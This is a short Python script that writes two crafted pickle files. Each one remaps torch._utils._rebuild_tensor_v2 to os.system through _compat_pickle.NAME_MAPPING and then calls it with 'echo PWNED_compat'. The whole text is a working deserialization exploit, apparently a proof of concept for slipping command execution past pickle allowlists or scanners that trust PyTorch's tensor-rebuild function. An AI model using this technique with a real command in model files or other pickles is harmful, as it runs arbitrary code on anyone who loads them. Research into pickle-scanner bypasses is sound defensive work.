import struct
def w(n,b): open(n,'wb').write(b)
def U(s): b=s.encode(); return b'X'+struct.pack('<I',len(b))+b
p = (b"\x80\x02ccollections\nChainMap\nc_compat_pickle\nNAME_MAPPING\n\x85R"
     + U('torch._utils') + U('_rebuild_tensor_v2') + b"\x86" + U('os') + U('system') + b"\x86s0"
     + b"ctorch._utils\n_rebuild_tensor_v2\n" + U('echo PWNED_compat') + b"\x85R.")
w('compat.pkl', p)
# direct SETITEM on the global, for comparison
p2 = (b"\x80\x02c_compat_pickle\nNAME_MAPPING\n"
     + U('torch._utils') + U('_rebuild_tensor_v2') + b"\x86" + U('os') + U('system') + b"\x86s0"
     + b"ctorch._utils\n_rebuild_tensor_v2\n" + U('echo PWNED_compat') + b"\x85R.")
w('compat_direct.pkl', p2)
